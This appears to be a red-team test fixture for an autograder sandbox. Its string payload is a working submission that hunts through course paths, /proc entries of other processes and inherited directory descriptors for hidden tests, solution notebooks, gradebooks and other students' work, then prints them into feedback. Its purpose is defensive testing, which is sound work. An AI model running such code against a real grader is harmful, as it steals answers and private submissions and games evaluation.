"""Read the answers and the hidden tests: the source notebook, the gradebook, other students.

It walks up from its folder; derives the repository from `parlab.__file__`
(lib/parlab -> ../../solutions/faultlab/faultlab.ipynb) and tries the paths a course root has
(solutions/, gradebook.db, submitted/, autograded/, the tests' temporary roots); looks through
/proc/*/cwd and /proc/*/root of every process it can see and every directory descriptor it
was handed (climbing to `..`); and searches /, /tmp, /root, /home, /work, /run and the rest
(bounded: 3 s, 40,000 entries) for files, notebooks, gradebooks, that hold "BEGIN HIDDEN TESTS"
or "BEGIN SOLUTION". What it finds it prints after a marker, so that it would reach the
learner's feedback.

What must stop it: the sandbox (parlab.grading.sandbox) mounts none of the course's files,
only Python, the venv and lib/ (read-only, what every learner has), a private copy of the
submission's folder, a private /tmp; its own PID namespace shows no process of the grader.
The attack finds nothing outside those library binds, prints no marker, scores 0; and no
feedback shows a hidden-test or solution line (tests/test_attacks.py).
"""

ANSWERS = {"mean_answer": r'''
import glob
import os
import sys
import time

import parlab

MARK = "PWN" + "ED-read_answers"  # built here, so that the notebook itself never holds it
NEEDLES = (b"BEGIN " + b"HIDDEN TESTS", b"BEGIN " + b"SOLUTION")
# What every learner has anyway: the system, Python, the venv and the course's lib/.
LIB = os.path.dirname(os.path.dirname(os.path.realpath(parlab.__file__)))
REPO = os.path.dirname(LIB)
PUBLIC = tuple(sorted({"/usr", "/proc", "/sys", "/dev", os.path.realpath(sys.prefix),
                       os.path.realpath(sys.base_prefix), LIB}))
DEADLINE = time.monotonic() + 3.0
budget = [40_000]
seen, seen_dirs, found = set(), set(), []


def public(path):
    return any(path == p or path.startswith(p + "/") for p in PUBLIC)


def look(path):
    """Read one file (at most 4 MB); note it if it holds a needle."""
    try:
        real = os.path.realpath(path)
        if real in seen or public(real) or os.path.getsize(path) > 4 << 20:
            return
        seen.add(real)
        with open(path, "rb") as f:
            data = f.read()
    except (OSError, ValueError):
        return
    for needle in NEEDLES:
        at = data.find(needle)
        if at >= 0:
            found.append((path, data[at:at + 300].decode(errors="replace")))
            return


def walk(top, depth=8):
    stack = [(top, 0)]
    while stack and budget[0] > 0 and time.monotonic() < DEADLINE:
        folder, level = stack.pop()
        try:
            st = os.stat(folder)
            if (st.st_dev, st.st_ino) in seen_dirs or public(os.path.realpath(folder)):
                continue
            seen_dirs.add((st.st_dev, st.st_ino))
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            budget[0] -= 1
            try:
                if entry.is_dir(follow_symlinks=False):
                    if level < depth:
                        stack.append((entry.path, level + 1))
                elif entry.is_file():
                    look(entry.path)
            except OSError:
                pass


# 1. the course root's layout, from where the notebook runs and from parlab's own path
cwd = os.getcwd()
bases = [REPO] + [os.path.normpath(os.path.join(cwd, *[".."] * k)) for k in range(6)]
bases += glob.glob("/tmp/pytest-of-*/pytest-*/*")[:50] + glob.glob("/tmp/parlab-grade-*/*")
for base in bases:
    for rel in ("solutions/faultlab/faultlab.ipynb", "gradebook.db", "source/faultlab",
                "release/faultlab/faultlab.ipynb", "autograder/faults/faultlab/faultlab.ipynb"):
        look(os.path.join(base, rel))
    for pattern in ("solutions/*/*.ipynb", "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb",
                    "feedback/*/*/*.html", "*.db"):
        for path in glob.glob(os.path.join(base, pattern))[:200]:
            look(path)

# 2. every process this one can see: its working directory and its root
for pid in sorted(os.listdir("/proc"))[:2000]:
    if pid.isdigit():
        for link in ("cwd", "root"):
            walk(f"/proc/{pid}/{link}")

# 3. directory descriptors handed down to this process, and their parents
for fd in os.listdir("/proc/self/fd"):
    try:
        top = int(fd)
        for _ in range(8):
            walk(f"/proc/self/fd/{top}", depth=2)
            parent = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=top)
            top = parent
    except (OSError, ValueError):
        pass

# 4. everywhere else (the library binds above are not looked into again)
for top in (cwd, "/run", "/tmp", "/root", "/home", "/work", "/srv", "/mnt", "/opt", "/var",
            "/etc", "/"):
    walk(top)

for path, text in found[:20]:
    print(f"{MARK} {path}: {text!r}")
print(f"read_answers: {len(seen)} files read, {40_000 - budget[0]} entries seen, "
      f"{len(found)} with hidden tests or solutions")
'''}
MAX_SECONDS = 40
